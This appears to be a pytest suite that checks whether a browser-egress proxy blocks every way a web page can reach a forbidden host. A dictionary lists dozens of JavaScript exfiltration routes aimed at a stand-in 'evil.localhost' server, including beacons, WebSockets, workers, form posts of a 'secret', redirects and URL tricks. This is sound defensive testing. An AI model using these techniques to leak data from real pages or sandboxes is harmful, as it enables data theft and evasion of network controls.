"""A real browser behind the proxy: every way out of a page that a proxy can see. What counts is what the forbidden server accepted."""

from __future__ import annotations

import base64
import hashlib
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest

from handeye.tools.browser import BrowserDriver, BrowserOptions
from handeye.tools.egress import Allowed, EgressProxy
from handeye.tools.errors import DeviceError, SetupError
from tests.tools.egress.wire import Listener


@dataclass
class Pages:
    """What the allowed server says for each path, and what it was asked."""

    bodies: dict[str, bytes] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def talk(self, listener: Listener, connection: socket.socket) -> None:
        while True:
            head = listener.head(connection)
            method, path, _ = head.decode("latin-1").split(" ", 2)
            self.asked.append(f"{method} {path}")
            fields = dict(line.split(b": ", 1) for line in head.lower().split(b"\r\n")[1:-2])
            left = int(fields.get(b"content-length", b"0"))
            while left:
                left -= len(connection.recv(left))
            target = path.partition("?")[2]
            if path.startswith(("/301", "/302", "/303", "/307", "/308")):
                connection.sendall(f"HTTP/1.1 {path[1:4]} Go\r\nLocation: {target}\r\nContent-Length: 0\r\n\r\n".encode())
            elif path.startswith("/socket"):
                key = next(line.split(b": ")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"sec-websocket-key"))
                accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
                connection.sendall(
                    b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + accept
                )
                connection.sendall(b"\r\n\r\n\x81\x05hello")
                connection.recv(999)
                return
            elif path.startswith("/events"):
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\nb\r\ndata: one\n\n\r\n"
                )
                connection.recv(1)
                return
            else:
                body = self.bodies.get(path.partition("?")[0])
                kind = "text/javascript" if path.endswith(".js") else "text/html"
                status = "404 Not Found" if body is None else "200 OK"
                body = body or b""
                connection.sendall(
                    f"HTTP/1.1 {status}\r\nContent-Type: {kind}; charset=utf-8\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
                )


@dataclass
class Scene:
    """A browser behind a proxy that allows one host of two."""

    driver: BrowserDriver
    proxy: EgressProxy
    pages: Pages
    good: str
    """Address of the allowed host, without a slash at its end."""
    sink: Listener
    evil: str
    """Address of the forbidden host, which leads to this machine even without a proxy."""
    number: int = 0

    def renew(self) -> None:
        """A fresh page, and a forbidden host of its own for each test: what a page did before tells nothing then."""
        self.driver.renew()
        self.number += 1
        self.evil = f"http://e{self.number}.evil.localhost:{self.sink.port}"

    def open(self, html: str, path: str = "/page") -> None:
        self.pages.bodies[path] = b"<!doctype html><meta charset=utf-8><body>" + html.encode()
        self.driver.goto(self.good + path)

    def refused(self) -> list[str]:
        """The hosts that pages were refused."""
        return [refusal.host for refusal in self.proxy.refusals if refusal.kind == "page"]

    def until_refused(self, host: str = "", count: int = 1) -> None:
        """Wait until the proxy has told of `count` refusals of `host`, or of the forbidden one."""
        host = host or urlsplit(self.evil).hostname or ""
        for _ in range(200):
            if self.refused().count(host) >= count:
                return
            threading.Event().wait(0.1)
        raise AssertionError(f"{host} was not refused, but {self.refused()}")


@pytest.fixture(scope="module")
def staged() -> Iterator[Scene]:
    pages = Pages()
    origin, sink = Listener(pages.talk), Listener()
    with EgressProxy.start(Allowed.read([f"shop.localhost:{origin.port}"])) as proxy:
        options = BrowserOptions(args=(f"--proxy-server={proxy.address}", "--proxy-bypass-list=<-loopback>"))
        try:
            driver = BrowserDriver.launch(options)
        except SetupError as error:
            pytest.skip(str(error))
        yield Scene(driver, proxy, pages, f"http://shop.localhost:{origin.port}", sink, f"http://evil.localhost:{sink.port}")
        driver.close()
    origin.close()
    sink.close()
    assert sink.accepts == 0  # nor did anything come late


@pytest.fixture
def scene(staged: Scene) -> Scene:
    staged.renew()
    return staged


def test_the_forbidden_server_would_be_reached_without_the_proxy(staged: Scene) -> None:
    """Else nothing that follows would mean anything."""
    sink = Listener()
    driver = BrowserDriver.launch()
    driver.goto(f"http://evil.localhost:{sink.port}/")
    driver.close()
    sink.close()
    assert sink.accepts > 0


def test_the_allowed_host_is_reached_and_loopback_goes_through_the_proxy_too(scene: Scene) -> None:
    scene.open("<h1>here</h1>")
    assert scene.driver.evaluate("document.body.innerText") == "here"
    for address in (f"http://127.0.0.1:{scene.sink.port}/", f"http://localhost:{scene.sink.port}/", f"http://[::1]:{scene.sink.port}/"):
        scene.driver.goto(address)
        assert "handeye refused this" in scene.driver.evaluate("document.body.innerText")
    assert scene.sink.accepts == 0


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirection_is_refused_at_its_hop_and_a_body_is_not_sent_on(scene: Scene, status: int) -> None:
    scene.driver.goto(f"{scene.good}/{status}?{scene.evil}/hop")
    scene.until_refused()
    scene.open(f"<form method=post action='/{status}?{scene.evil}/form'><input name=secret value=hunter2></form>")
    scene.driver.evaluate("void document.forms[0].submit()")
    scene.until_refused(count=2)
    assert scene.sink.accepts == 0
    assert scene.sink.seen == b""


WAYS = {
    "picture": "new Image().src = EVIL",
    "redirected picture": "new Image().src = GOOD + '/302?' + EVIL",
    "fetch": "fetch(EVIL, {mode: 'no-cors'}).catch(() => 0)",
    "redirected fetch": "fetch(GOOD + '/307?' + EVIL, {method: 'POST', body: 'secret', mode: 'no-cors'}).catch(() => 0)",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: EVIL}))",
    "srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<img src=' + EVIL + '>'}))",
    "data frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'data:text/html,<img src=' + EVIL + '>'}))",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: EVIL}))",
    "style": "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import \"' + EVIL + '\"'}))",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + EVIL + '\">')",
    "location": "location = EVIL",
    "replace": "location.replace(EVIL)",
    "popup": "window.open(EVIL)",
    "blank popup": "{const w = window.open('about:blank'); if (w) w.document.write('<img src=' + EVIL + '>'); else new Image().src = EVIL}",
    "form": "{const f = document.createElement('form'); f.action = EVIL; document.body.append(f); f.submit()}",
    "posted form": "{const f = document.createElement('form'); f.action = EVIL; f.method = 'post'; document.body.append(f); f.submit()}",
    "user name": "location = EVIL.replace('http://', 'http://shop.localhost@')",
    "other port": "new Image().src = 'http://shop.localhost:' + new URL(EVIL).port",
    "number": "new Image().src = 'http://2130706433:' + new URL(EVIL).port",
    "https": "new Image().src = EVIL.replace('http:', 'https:')",
    "socket": "new WebSocket(EVIL.replace('http', 'ws'))",
    "secure socket": "new WebSocket(EVIL.replace('http', 'wss'))",
    "events": "new EventSource(EVIL)",
    "beacon": "navigator.sendBeacon(EVIL, 'secret')",
    "kept alive": "addEventListener('pagehide', () => fetch(EVIL, {keepalive: true, method: 'POST', mode: 'no-cors'})); location = '/next'",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + '\", {mode: \"no-cors\"}).catch(() => 0)'])))",
    "worker's socket": "new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"' + EVIL.replace('http', 'ws') + '\")'])))",
    "shared worker": "new SharedWorker('/shared.js?' + EVIL)",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: EVIL}))",
    "video": "document.body.append(Object.assign(document.createElement('video'), {src: EVIL, autoplay: true}))",
    "download": "{const a = Object.assign(document.createElement('a'), {href: EVIL, download: 'x'}); document.body.append(a); a.click()}",
    "icon": "fetch(new Request(EVIL, {mode: 'no-cors', priority: 'low'})).catch(() => 0)",
    "preload": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'image', href: EVIL}))",
}


@pytest.mark.parametrize("way", WAYS)
def test_no_way_out_of_a_page_reaches_the_forbidden_host(scene: Scene, way: str) -> None:
    scene.pages.bodies["/shared.js"] = b"fetch(decodeURIComponent(location.search.slice(1)), {mode: 'no-cors'}).catch(() => 0)"
    scene.pages.bodies["/next"] = b"next"
    scene.open("<p>here</p>")
    scene.driver.evaluate(f"() => {{ const EVIL = '{scene.evil}/', GOOD = '{scene.good}'; {WAYS[way]}; }}")
    scene.until_refused({"other port": "shop.localhost", "number": "127.0.0.1"}.get(way, ""))
    assert scene.sink.accepts == 0


def test_own_sockets_and_news_pass(scene: Scene) -> None:
    before = scene.refused()
    scene.open("<p>here</p>")
    host = urlsplit(scene.good).netloc
    socket_says = f"new Promise(told => {{ new WebSocket('ws://{host}/socket').onmessage = event => told(event.data) }})"
    assert scene.driver.evaluate(socket_says) == "hello"
    news = "new Promise(told => { new EventSource('/events').onmessage = event => told(event.data) })"
    assert scene.driver.evaluate(news) == "one"
    assert scene.refused() == before


def test_a_page_with_many_requests_is_whole(scene: Scene) -> None:
    before = scene.refused()
    scene.pages.bodies |= {f"/{number}.js": b"window.count = (window.count || 0) + 1" for number in range(300)}
    scene.open("".join(f"<script src=/{number}.js></script>" for number in range(300)))
    assert scene.driver.evaluate("window.count") == 300
    assert scene.refused() == before


def test_without_the_proxys_process_the_browser_reaches_nothing(scene: Scene) -> None:
    with EgressProxy.start(Allowed.read([f"127.0.0.1:{scene.sink.port}"])) as proxy:
        options = BrowserOptions(args=(f"--proxy-server={proxy.address}", "--proxy-bypass-list=<-loopback>"))
        driver = BrowserDriver.launch(options)
    try:
        with pytest.raises(DeviceError):
            driver.goto(f"http://127.0.0.1:{scene.sink.port}/")
    finally:
        driver.close()
    assert scene.sink.accepts == 0
